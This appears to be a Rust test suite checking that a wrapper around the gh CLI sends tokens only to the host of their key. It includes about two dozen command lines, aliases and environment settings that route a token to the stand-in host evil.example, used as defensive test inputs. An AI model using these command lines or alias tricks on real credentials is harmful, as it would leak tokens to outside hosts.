//! gh sends a token to the host of its key only, whatever its arguments, its environment and its configuration say.
//!
//! gh talks to a socket here rather than to hosts, so the test sees each host that gh asks, and what gh sends to it.

use std::collections::BTreeSet;
use std::env;
use std::fs;
use std::io::{Read as _, Write as _};
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::thread;

use tempfile::TempDir;

use crate::support::proxy::Proxy;
use crate::support::{APP_ID, APPTOKEN, HOST, World, need};

/// The host of the key, an Enterprise Server, and one that must not get its tokens.
const OURS: &str = "ghes.test";
const EVIL: &str = "evil.example";

/// Command lines with which every gh asks another host.
const ASK_EVIL: [&str; 24] = [
    "api -- https://evil.example/x",
    "api HTTPS://evil.example/x",
    "api http://evil.example/x",
    "api -X -b https://evil.example/x",
    "api -iX --body https://evil.example/x",
    "api --hostname evil.example user",
    "api user --hostname ghes.test --hostname evil.example",
    "pr view 1 -cR evil.example/o/r",
    "pr view 1 -cR=evil.example/o/r",
    "pr view -c https://evil.example/o/r/pull/1",
    "pr list -R octo/hello -R evil.example/o/r",
    "pr list --repo octo/hello -R evil.example/o/r",
    "pr list -R octo/hello --repo=evil.example/o/r",
    "-R evil.example/o/r pr list",
    "--repo=evil.example/o/r pr list",
    "repo view evil.example/o/r",
    "repo view git+https://evil.example/o/r",
    "repo view evil.example/o/r.git",
    "repo create octo/n --private --template evil.example/o/r",
    "repo create octo/n --private -pevil.example/o/r",
    "repo create evil.example/o/n --private",
    "label clone evil.example/o/r -R octo/hello",
    "extension install evil.example/o/gh-x",
    "leak",
];
/// The same, of a gh that has been seen to do it.
const NEW_GH_ASKS_EVIL: [&str; 1] = ["pr leak"];
/// The minor version of that gh.
const NEW_GH: u32 = 102;
const ALIASES: &str = "    leak: api https://evil.example/x\n    pr leak: api https://evil.example/x\n";

#[test]
fn no_command_line_makes_gh_send_an_enterprise_token_elsewhere() {
    for gh in ghs() {
        let (w, hosts) = with_enterprise_key(&gh);
        let minor = minor_version(&w, &gh);
        let new: &[&str] = if minor >= NEW_GH { &NEW_GH_ASKS_EVIL } else { &[] };
        for line in ASK_EVIL.iter().chain(new) {
            // The control: gh alone, with the same token in its environment.
            let alone =
                w.command(&gh).args(line.split(' ')).env("GH_ENTERPRISE_TOKEN", "ghs_control").env("GH_HOST", OURS);
            let said = alone.run().everything();
            assert!(hosts.take().contains(&sent(EVIL, "ghs_control")), "{gh:?} {line}: {said}");

            let run = w.command(APPTOKEN).arg("gh").args(line.split(' ')).run();
            run.stderr_contains("apptoken: ").said_of(1);
            assert_eq!(hosts.take(), [], "{gh:?} {line}");
        }
        for args in
            [&["api", "user"][..], &["pr", "list", "-R", "ghes.test/octo/hello"], &["co", "1", "-R", "octo/hello"]]
        {
            w.command(APPTOKEN).arg("gh").args(args).run().everything();
            let asked = hosts.take();
            assert!(!asked.is_empty() && asked.iter().all(|(host, _)| host == OURS), "{args:?} {asked:?}");
        }
    }
}

#[test]
fn gh_asks_no_other_host_that_it_has_a_login_for() {
    for gh in ghs() {
        let (w, hosts) = with_enterprise_key(&gh);
        let logins = [OURS, EVIL].map(|host| format!("{host}:\n    user: octo\n    oauth_token: gho_own\n")).concat();
        fs::write(w.path("config/gh/hosts.yml"), logins).expect("the directory is ours");
        let alone =
            w.command(&gh).args(["auth", "status"]).env("GH_ENTERPRISE_TOKEN", "ghs_control").run().everything();
        assert!(hosts.take().contains(&sent(EVIL, "ghs_control")), "{gh:?}: {alone}");

        w.apptoken(["gh", "auth", "status"]).fails(1, ["another host", EVIL]);
        assert_eq!(hosts.take(), []);
        w.apptoken(["gh", "auth", "status", "--hostname", OURS]).everything();
        assert!(hosts.take().iter().all(|(host, _)| host == OURS));
        w.apptoken(["gh", "auth", "status", "-th", EVIL]).fails(1, ["no key for that"]);
    }
}

#[test]
fn the_variables_of_github_actions_lead_gh_nowhere_else() {
    for gh in ghs() {
        let (mut w, hosts) = with_enterprise_key(&gh);
        w.env("GITHUB_API_URL", format!("https://{EVIL}"));
        w.env("GITHUB_SERVER_URL", format!("https://{EVIL}"));
        let list = ["codespace", "list"];
        let alone = w.command(&gh).args(list).env("GH_ENTERPRISE_TOKEN", "ghs_control").env("GH_HOST", OURS).run();
        let said = alone.everything();
        assert!(hosts.take().contains(&sent(EVIL, "ghs_control")), "{gh:?}: {said}");

        w.command(APPTOKEN).arg("gh").args(list).run().everything();
        assert!(hosts.take().iter().all(|(host, _)| host != EVIL), "{gh:?}");
    }
}

#[test]
fn gh_sends_no_token_by_plain_http() {
    for gh in ghs() {
        let proxy = Proxy::answering("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        let (mut w, _hosts) = with_enterprise_key(&gh);
        fs::remove_file(w.path("config/gh/config.yml")).expect("it was written");
        w.env("HTTP_PROXY", proxy.url());
        let args = ["api", &format!("http://{OURS}/api/v3/user")];
        let alone = w.command(&gh).args(args).env("GH_ENTERPRISE_TOKEN", "ghs_control").run().everything();
        assert!(proxy.heard().iter().any(|heard| heard.head.contains("ghs_control")), "{gh:?}: {alone}");

        let heard = proxy.accepted();
        w.command(APPTOKEN).arg("gh").args(args).run().fails(1, ["without encryption"]);
        assert_eq!(proxy.accepted(), heard);
    }
}

#[test]
fn what_cannot_be_judged_does_not_run_with_an_enterprise_token() {
    let (w, _hosts) = with_enterprise_key(Path::new("gh"));
    let gh = w.script("gh", "echo ran");
    let run = |line: &str| w.command(APPTOKEN).arg("gh").args(line.split(' ')).env("APPTOKEN_GH", &gh).run();
    let aliases = |text: &str| fs::write(w.path("config/gh/config.yml"), text).expect("the directory is ours");
    for line in ["an-extension", "extension exec x", "ext upgrade --all", "copilot", "--flag pr list", "-- pr list"] {
        run(line).fails(1, ["an extension or a command", "apptoken run -- gh"]);
    }
    aliases("aliases:\n    sh: '!gh api https://evil.example'\n    put: api https://$1/\n    mine: pr list\n");
    for line in ["sh", "put evil.example", "-R octo/hello sh"] {
        run(line).fails(1, ["an alias"]);
    }
    run("mine --limit 3").stdout("ran\n").ok();
    aliases("aliases: {mine: api https://evil.example}\n");
    run("mine").fails(1, ["an alias"]);
    run("pr list").fails(1, ["an alias"]);
    w.command(APPTOKEN).args(["run", "--", "sh", "-c", "echo ran"]).run().stdout("ran\n").ok();
}

#[test]
fn what_only_looks_like_another_host_runs() {
    let (enterprise, _hosts) = with_enterprise_key(Path::new("gh"));
    for w in [enterprise, World::with_key()] {
        let gh = w.script("gh", "echo ran");
        for line in [
            "attestation verify oci://ghcr.io/octo/hello -R octo/hello",
            "search code https://evil.example/",
            "pr create -t https://evil.example/ -b https://evil.example/",
            "pr create --draft --body=https://evil.example/",
            "issue create -tRefactor",
            "issue close 1 --comment https://evil.example/",
            "release upload v1 dist/linux/app",
            "release create v1 -n https://evil.example/",
            "workflow run .github/workflows/ci.yml -f url=https://evil.example/",
            "repo edit -h https://evil.example/",
            "repo clone octo/hello ./a/b/c -- --depth 1",
            "api repos/octo/hello/issues -f body=https://evil.example/",
            "alias set leak api",
        ] {
            let args: Vec<&str> = line.split(' ').collect();
            w.command(APPTOKEN).arg("gh").args(&args).env("APPTOKEN_GH", &gh).run().stdout("ran\n").ok();
        }
    }
}

#[test]
fn a_token_for_github_goes_to_no_other_host_of_its_kind() {
    let w = World::with_key();
    fs::create_dir(w.path("config/gh")).expect("a new directory");
    let config = "aliases:\n    leak: api https://api.acme.ghe.com/x\n    sh: '!echo x'\n";
    fs::write(w.path("config/gh/config.yml"), config).expect("the directory is ours");
    fs::write(w.path("config/gh/hosts.yml"), "acme.ghe.com:\n    user: octo\n").expect("the directory is ours");
    let gh = w.script("gh", "echo ran");
    let command = || w.command(APPTOKEN).arg("gh").env("APPTOKEN_GH", &gh).env("APPTOKEN_HOST", HOST);
    let run = |line: &str| command().args(line.split(' ')).run();
    for line in [
        "leak",
        "auth status -th acme.ghe.com",
        "pr view -c https://acme.ghe.com/o/r/pull/1",
        "pr view 1 -cR acme.ghe.com/o/r",
        "repo sync octo/hello --source acme.ghe.com/o/r",
        "issue transfer 1 acme.ghe.com/o/r",
        "auth status",
    ] {
        run(line).fails(1, ["another host"]);
    }
    // gh would send the token to no host that these could name, or they are the person's own programs.
    for line in ["repo clone octo/hello a/b/c", "an-extension", "sh", "auth status -h github.localhost"] {
        run(line).stdout("ran\n").ok();
    }
    // In a codespace gh sends it to Enterprise Servers as well.
    command().arg("an-extension").env("CODESPACES", "true").run().fails(1, ["an extension"]);
}

/// Every gh that `PATH` leads to: to test another one, put it there.
fn ghs() -> BTreeSet<PathBuf> {
    if !need("gh") {
        return BTreeSet::new();
    }
    let path = env::var_os("PATH").expect("gh was found there");
    env::split_paths(&path).filter_map(|directory| fs::canonicalize(directory.join("gh")).ok()).collect()
}

/// The `N` of gh `2.N.x`.
#[track_caller]
fn minor_version(w: &World, gh: &Path) -> u32 {
    let said = w.command(gh).arg("--version").run().text();
    said.split('.').nth(1).and_then(|minor| minor.parse().ok()).expect("gh version 2.N.x")
}

/// A world whose agent holds a key for [`OURS`], and where `gh` asks a socket in place of hosts.
#[track_caller]
fn with_enterprise_key(gh: &Path) -> (World, Hosts) {
    let mut w = World::with_agent();
    let add = w.command(APPTOKEN).args(["add", "key.pem", "--app-id", &APP_ID.to_string(), "--host", OURS]);
    add.args(["--api-url", &w.github.url()]).run().stderr_contains(OURS).ok();
    let hosts = Hosts::listen();
    fs::create_dir_all(w.path("config/gh")).expect("the directory is ours");
    let config = format!(
        "version: \"1\"\nhttp_unix_socket: {}\naliases:\n    co: pr checkout\n{ALIASES}",
        hosts.socket().display()
    );
    fs::write(w.path("config/gh/config.yml"), config).expect("the directory is ours");
    for (name, value) in [
        ("GH_NO_UPDATE_NOTIFIER", "1"),
        ("GH_PROMPT_DISABLED", "1"),
        ("NO_COLOR", "1"),
        // Else a child of gh outlives it, and with it what gh prints to.
        ("GH_TELEMETRY", "false"),
    ] {
        w.env(name, value);
    }
    w.env("GH_CONFIG_DIR", w.path("config/gh"));
    w.env("APPTOKEN_GH", gh);
    (w, hosts)
}

/// All hosts there are, for a gh whose configuration leads to their socket. They know nothing, and note what they hear.
struct Hosts {
    /// Not in the world, which takes every socket in it for an agent's.
    directory: TempDir,
    heard: Arc<Mutex<Vec<(String, String)>>>,
}

impl Hosts {
    fn listen() -> Self {
        let directory = TempDir::with_prefix_in("at", "/tmp").expect("/tmp is writable");
        let listener = UnixListener::bind(directory.path().join("hosts")).expect("a new directory");
        let heard = Arc::new(Mutex::new(Vec::new()));
        let all = Arc::clone(&heard);
        // It ends with the process: nobody connects once the world is gone.
        thread::spawn(move || {
            for stream in listener.incoming().map_while(Result::ok) {
                let all = Arc::clone(&all);
                thread::spawn(move || answer(stream, &all));
            }
        });
        Self { directory, heard }
    }

    fn socket(&self) -> PathBuf {
        self.directory.path().join("hosts")
    }

    /// Returns which host was sent which credential, since the last time.
    fn take(&self) -> Vec<(String, String)> {
        std::mem::take(&mut self.heard.lock().expect("no holder panics"))
    }
}

fn answer(mut stream: UnixStream, all: &Mutex<Vec<(String, String)>>) {
    let mut head = Vec::new();
    let mut byte = [0];
    while !head.ends_with(b"\r\n\r\n") && stream.read_exact(&mut byte).is_ok() {
        head.extend(byte);
    }
    let head = String::from_utf8_lossy(&head);
    let field = |name: &str| {
        let mut fields = head.lines().filter_map(|line| line.split_once(": "));
        fields.find(|(field, _)| field.eq_ignore_ascii_case(name)).map_or(String::new(), |(_, value)| value.to_owned())
    };
    all.lock().expect("no holder panics").push((field("host"), field("authorization")));
    let _ = stream.write_all(
        b"HTTP/1.1 404 Not Found\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
    );
}

/// What a host hears that is sent a token by gh.
fn sent(host: &str, token: &str) -> (String, String) {
    (host.to_owned(), format!("token {token}"))
}
